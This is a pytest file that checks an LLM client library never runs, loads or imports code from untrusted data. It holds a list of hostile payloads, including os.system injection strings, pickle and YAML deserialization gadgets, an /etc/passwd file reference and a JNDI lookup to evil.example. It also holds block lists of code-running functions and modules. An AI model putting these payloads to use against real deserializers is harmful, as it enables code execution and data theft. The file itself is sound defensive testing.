"""Data is data: what a file, a model or a provider says is never run."""

from __future__ import annotations

import ast
import json
import subprocess
import sys
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path

import pytest

import llmkit
from llmkit import ChatCompletionRequest, ChatCompletionResponse, Conversation, Message, Tool
from llmkit.errors import InvalidRequestError
from llmkit.testing import ReplayTransport

PACKAGE = Path(llmkit.__file__).parent

RUNS_CODE = {
    # Annotations of llmkit's own adapters, of which quirks are checked against.
    ("providers/quirks.py", "eval"),
    # Annotations of the caller's own functions and classes, as written in his program.
    ("_models/signatures.py", "get_type_hints"),
    ("_models/class_fields.py", "get_type_hints"),
}
"""Where llmkit runs text as code: never what was read or received."""

FORBIDDEN = {"eval", "exec", "compile", "__import__", "get_type_hints"}
FORBIDDEN |= {"os.system", "os.popen", "os.execv", "os.startfile"}
MODULES = {"pickle", "marshal", "shelve", "yaml", "subprocess", "ctypes", "runpy", "code", "dill"}


def test_nothing_that_runs_code_is_used() -> None:
    """But in the places that are known, whose text is the program's own."""
    found = set()
    for path in PACKAGE.rglob("*.py"):
        name = path.relative_to(PACKAGE).as_posix()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                word = called if called.startswith(("os.", "re.")) else called.rpartition(".")[2]
                if word in FORBIDDEN:
                    found.add((name, word))
            modules = [each.name for each in node.names] if isinstance(node, ast.Import) else []
            modules += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            assert not MODULES & {module.partition(".")[0] for module in modules}, name
    assert found == RUNS_CODE


HOSTILE: list[object] = [
    "__import__('os').system('touch pwned')",
    {"__class__": "os.system", "__reduce__": ["os.system", ["touch pwned"]]},
    {"py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, ["touch pwned"]]},
    {"$ref": "file:///etc/passwd"},
    {"type": "__import__('os').system", "function": "os.system"},
    {"role": "user", "content": "{0.__class__.__mro__}"},
    {"role": "__class__", "content": "x"},
    [{"type": "text", "text": "${jndi:ldap://evil.example}"}] * 3,
    "!!python/object/apply:os.system ['touch pwned']",
]

READERS: dict[str, Callable[[Mapping[str, object]], object]] = {
    "a request": ChatCompletionRequest.from_dict,
    "an answer": ChatCompletionResponse.from_dict,
    "a message": Message.from_dict,
    "a tool": Tool.from_dict,
    "a conversation": Conversation.from_dict,
}


@pytest.mark.parametrize("read", READERS.values(), ids=READERS)
@pytest.mark.parametrize("evil", HOSTILE, ids=range(len(HOSTILE)))
def test_from_dict_runs_nothing(
    read: Callable[[Mapping[str, object]], object],
    evil: object,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Whatever stands in whatever field: a value, or an error that says what is wrong."""
    monkeypatch.chdir(tmp_path)
    fields = ("role", "content", "model", "messages", "tools", "choices", "name", "function")
    for field in (*fields, "parameters", "type", "id", "response_format", "conversation"):
        for data in ({field: evil}, {"model": "m", "role": "user", "messages": [], field: evil}):
            with suppress(InvalidRequestError):
                read(data)
            assert list(tmp_path.iterdir()) == []


AUDITED = """
import json, sys
from llmkit import ChatCompletionRequest, ChatCompletionResponse, Conversation, Message, Tool
from llmkit.errors import LLMKitError
readers = (ChatCompletionRequest, ChatCompletionResponse, Conversation, Message, Tool)
hostile = json.loads(sys.argv[1])
cases = [{field: evil, **more} for evil in hostile
         for field in ("role", "content", "messages", "tools", "choices", "function", "type")
         for more in ({}, {"model": "m"})]
def read_all():
    for reader in readers:
        for case in cases:
            try:
                reader.from_dict(case)
            except LLMKitError:
                pass
read_all()  # what is loaded when it is first needed, is loaded
seen = []
def hook(event, args):
    if event.split(".")[0] in ("exec", "compile", "import", "open", "os", "subprocess", "socket",
                               "pickle", "marshal", "ctypes", "shutil", "urllib"):
        seen.append(event)
sys.addaudithook(hook)
read_all()
found = list(seen)
eval("1")
assert "exec" in seen, "the hook sees nothing"
print(json.dumps(found))
"""


def test_from_dict_compiles_opens_and_imports_nothing() -> None:
    """As the interpreter itself sees it: by its audit events."""
    done = subprocess.run(
        [sys.executable, "-c", AUDITED, json.dumps(HOSTILE)],
        capture_output=True,
        text=True,
        check=False,
        cwd=PACKAGE.parent,
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == []


@pytest.mark.parametrize("evil", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_recording_runs_nothing(evil: object, tmp_path: Path) -> None:
    """A line that is no exchange is told with its place."""
    path = tmp_path / "calls.jsonl"
    path.write_text(json.dumps({"request": evil, "error": evil}) + "\n", encoding="utf-8")
    with pytest.raises(ValueError, match="line 1: this is not a recorded exchange"):
        ReplayTransport(path)
    assert [each.name for each in tmp_path.iterdir()] == ["calls.jsonl"]
